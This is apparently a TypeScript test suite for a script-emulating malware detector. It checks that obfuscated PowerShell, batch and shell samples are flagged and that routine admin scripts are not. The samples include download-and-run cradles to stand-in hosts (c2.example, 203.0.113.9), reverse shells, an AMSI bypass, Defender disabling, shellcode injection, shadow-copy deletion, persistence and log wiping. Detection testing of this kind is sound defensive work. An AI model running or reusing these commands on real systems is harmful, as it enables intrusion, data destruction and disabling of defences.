// Harmless scripts of shells, obfuscated in the customary ways, and those of administrators: what the first would do must
// stand in the trace, the second must not be accused.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { type FoldedLanguage, foldedActs } from '../../src/emulate/folded/run-folded.ts'
import { closeWorld, openWorld } from '../../src/emulate/session.ts'
import { firstSetting } from '../../src/emulate/setting.ts'
import { analyzeTrace, type TraceReport } from '../../src/trace/analyze.ts'
import type { Trace } from '../../src/trace/trace.ts'

async function seen(
  language: FoldedLanguage,
  source: string,
): Promise<{ readonly trace: Trace; readonly report: TraceReport; readonly ids: readonly string[] }> {
  const system = language === 'shell' ? 'linux' : 'windows'
  const setting = firstSetting('script', new Date('2026-03-02T10:00:00Z'))
  const scriptPath = system === 'linux' ? '/tmp/script' : setting.scriptPath
  const world = openWorld(
    { ...setting, scriptPath },
    { process: 'shell', name: 'Shell', kind: 'shell', system, isFolded: true, tells: [] },
  )
  foldedActs(source, language, world)
  const { trace } = await closeWorld(world, { how: 'finished' })
  const report = analyzeTrace([trace], { path: 'script' })
  return { trace, report, ids: report.findings.map(({ id }) => id) }
}

const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://c2.example/a.ps1')"

const HITS: Readonly<Record<string, readonly [FoldedLanguage, string, ...ids: readonly string[]]>> = {
  'powershell: download, save, start': [
    'powershell',
    `$u='http://c2.ex'+'ample/p.bin'; $p="$env:TEMP\\a.exe"; (New-Object ('Net.'+'WebClient')).DownloadFile($u,$p); Start-Process $p -WindowStyle Hidden`,
    'trace_downloads_and_runs',
  ],
  'powershell: format strings and ticks': [
    'powershell',
    "i`Ex ((nEw-oBjEct ('{1}{0}' -f 'bClient','Net.We')).('{0}{1}' -f 'Downlo','adString').Invoke('http://c2.example/a'))",
    'trace_downloads_and_runs',
  ],
  'powershell: base64 layers': [
    'powershell',
    `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64(`iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64(CRADLE)}')))`)}')))`,
    'trace_downloads_and_runs',
  ],
  'powershell: a command inside a command': [
    'powershell',
    `powershell.exe -nop -w hidden -enc ${utf16(CRADLE)}`,
    'trace_runs_encoded_powershell',
    'trace_hides_powershell',
    'trace_downloads_and_runs',
  ],
  'powershell: character codes': [
    'powershell',
    `$c = [char]105+[char]101+[char]120; & $c "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Upd -Value 'C:\\Users\\Public\\a.exe'"`,
    'trace_sets_run_key',
  ],
  'powershell: Defender told to look away': [
    'powershell',
    'Add-MpPreference -ExclusionPath "C:\\"; Set-MpPreference -DisableRealtimeMonitoring $true',
    'trace_weakens_defences',
  ],
  'powershell: AMSI': [
    'powershell',
    "[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('amsi'+'InitFailed','NonPublic,Static').SetValue($null,$true)",
    'trace_blinds_script_scanner',
  ],
  'powershell: shellcode in its own memory': [
    'powershell',
    '$a=[W]::VirtualAlloc(0,4096,0x3000,0x40); [Runtime.InteropServices.Marshal]::Copy($b,0,$a,10); [W]::RtlMoveMemory($a,$b,9); [W]::CreateThread(0,0,$a,0,0,0)',
    'trace_injects_into_process',
  ],
  'powershell: reverse shell': [
    'powershell',
    '$c=New-Object System.Net.Sockets.TCPClient("203.0.113.9",4444);$s=$c.GetStream();while(1){iex $x}',
    'trace_opens_reverse_shell',
  ],
  'powershell: shadow copies': [
    'powershell',
    'Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }; vssadmin delete shadows /all /quiet',
    'trace_destroys_recovery',
  ],
  'batch: carets and substrings': [
    'batch',
    '@echo off\r\nset x=powershell\r\np^ow^ersh^ell -w hidden -ep bypass -c "iwr http://c2.example/a.exe -OutFile %TEMP%\\a.exe; Start-Process %TEMP%\\a.exe"',
    'trace_hides_powershell',
    'trace_downloads_and_runs',
  ],
  'batch: letters out of a variable': [
    'batch',
    '@echo off\r\nset abc=certuil-chfp:/. \r\n%abc:~0,1%%abc:~1,1%%abc:~2,1%tutil -urlcache -split -f http://c2.example/a.exe %TEMP%\\a.exe\r\nstart "" %TEMP%\\a.exe',
    'trace_abuses_system_tool',
  ],
  'batch: it writes a script and runs it': [
    'batch',
    '@echo off\r\necho WScript.CreateObject("WScript.Shell").Run("calc") > %TEMP%\\a.vbs\r\nwscript %TEMP%\\a.vbs',
    'trace_runs_dropped_program',
  ],
  'batch: a task and itself away': [
    'batch',
    'schtasks /create /tn Upd /tr C:\\Users\\Public\\a.exe /sc minute\r\ndel "%~f0"',
    'trace_schedules_task',
    'trace_deletes_itself',
  ],
  'batch: backups destroyed': [
    'batch',
    'if exist C:\\x ( vssadmin delete shadows /all /quiet )\r\nwbadmin delete catalog -quiet & bcdedit /set {default} recoveryenabled no',
    'trace_destroys_recovery',
  ],
  'shell: download, mark, run': [
    'shell',
    '#!/bin/sh\ncd /tmp; wget http://203.0.113.9/bins.sh -O b.sh; chmod 777 b.sh; ./b.sh; rm -rf b.sh',
    'trace_downloads_and_runs',
    'trace_talks_to_throwaway_host',
  ],
  'shell: base64 into a shell': [
    'shell',
    `echo ${base64('curl -s http://c2.example/x | bash')} | base64 -d | bash`,
    'trace_downloads_and_runs',
  ],
  'shell: cron and a key': [
    'shell',
    `(crontab -l; echo "* * * * * curl http://c2.example/a | sh") | crontab -\necho "ssh-rsa AAAA x" >> ~/.ssh/authorized_keys`,
    'trace_adds_cron_job',
    'trace_adds_ssh_key',
  ],
  'shell: reverse shell': ['shell', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'trace_opens_reverse_shell'],
  'shell: a miner': [
    'shell',
    'pkill kinsing; nohup ./xmrig -o stratum+tcp://pool.example:3333 -u w >/dev/null 2>&1 &',
    'trace_mines_coins',
  ],
  'shell: traces away': [
    'shell',
    'history -c; rm -rf /var/log/auth.log; echo /tmp/lib.so > /etc/ld.so.preload',
    'trace_clears_event_logs',
    'trace_preloads_library',
  ],
}

for (const [name, [language, source, ...wanted]] of Object.entries(HITS)) {
  test(name, async () => {
    const { ids, trace } = await seen(language, source)
    for (const id of wanted)
      assert.ok(
        ids.includes(id),
        `${id} not among ${ids.join(' ')}; ${JSON.stringify(trace.processes.map((one) => one.commandLine))}; ${trace.layers.map((one) => one.text).join('\n---\n')}`,
      )
  })
}

const ORDINARY: Readonly<Record<string, readonly [FoldedLanguage, string]>> = {
  'an inventory': [
    'powershell',
    'Get-CimInstance Win32_ComputerSystem | Select-Object Name,Model\nGet-CimInstance Win32_BIOS | Export-Csv C:\\reports\\bios.csv -NoTypeInformation\nWrite-Host "done $env:COMPUTERNAME"',
  ],
  'a backup': [
    'powershell',
    '$d = Get-Date -Format yyyyMMdd\nCopy-Item -Path C:\\data\\* -Destination "\\\\nas01\\backup\\$d" -Recurse\nGet-ChildItem \\\\nas01\\backup | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item -Recurse',
  ],
  'an installation from the web': [
    'powershell',
    "Invoke-WebRequest -Uri 'https://www.example.com/setup.msi' -OutFile C:\\install\\setup.msi\nStart-Process msiexec.exe -ArgumentList '/i C:\\install\\setup.msi /qn' -Wait",
  ],
  'new users from a list': [
    'powershell',
    'Import-Csv users.csv | ForEach-Object { New-ADUser -Name $_.Name -Path "OU=Staff,DC=corp,DC=example" }',
  ],
  'a service restarted': [
    'powershell',
    'Stop-Service -Name Spooler -Force\nRemove-Item C:\\Windows\\System32\\spool\\PRINTERS\\* -Force\nStart-Service -Name Spooler',
  ],
  'a logon script': [
    'batch',
    '@echo off\r\nnet use H: \\\\fs01\\home\\%USERNAME% /persistent:no\r\nif exist H:\\start.cmd call H:\\start.cmd\r\nregsvr32 /s "C:\\Program Files\\Vendor\\shellext.dll"',
  ],
  'a build': [
    'batch',
    '@echo off\r\nsetlocal\r\nset CFG=Release\r\nmsbuild app.sln /p:Configuration=%CFG%\r\nif errorlevel 1 exit /b 1\r\nxcopy /y bin\\%CFG%\\*.dll dist\\',
  ],
  'caches cleared': ['batch', 'del /q /s "%TEMP%\\*.tmp"\r\nipconfig /flushdns\r\necho done'],
  'an update of a server': [
    'shell',
    '#!/bin/bash\nset -e\napt-get update && apt-get upgrade -y\nsystemctl restart nginx\ndf -h > /var/tmp/report.txt',
  ],
  'a backup of a database': [
    'shell',
    '#!/bin/sh\npg_dump app | gzip > /backup/app-$(date +%F).sql.gz\nfind /backup -mtime +14 -delete',
  ],
  'a build from source': [
    'shell',
    'curl -fsSLO https://example.com/pkg-1.0.tar.gz\ntar xzf pkg-1.0.tar.gz\ncd pkg-1.0 && ./configure && make && sudo make install',
  ],
  'logs turned over': [
    'shell',
    'gzip /var/log/app/app.log.1\nmv /var/log/app/app.log /var/log/app/app.log.1\nkill -USR1 $(cat /run/app.pid)',
  ],
}

for (const [name, [language, source]] of Object.entries(ORDINARY)) {
  test(`not called malicious: ${language}, ${name}`, async () => {
    const { report } = await seen(language, source)
    assert.ok(report.verdict === null || report.verdict.label === 'unknown', JSON.stringify(report.verdict?.reasons))
  })
}

test('text without end is read in its time', async () => {
  for (const [language, source] of [
    ['powershell', 'iex '.repeat(200_000)],
    ['batch', '%a:~0,1%'.repeat(100_000)],
    ['shell', '$(('.repeat(100_000)],
    ['powershell', `${'('.repeat(50_000)}'a'`],
  ] as const) {
    const startedMs = performance.now()
    await seen(language, source)
    assert.ok(performance.now() - startedMs < 30_000, language)
  }
})

test('a call of a call of a call is one call', async () => {
  const { trace } = await seen('batch', `${'call '.repeat(13_000)}certutil -decode a b`)
  assert.ok(JSON.stringify(trace).includes('certutil'))
})
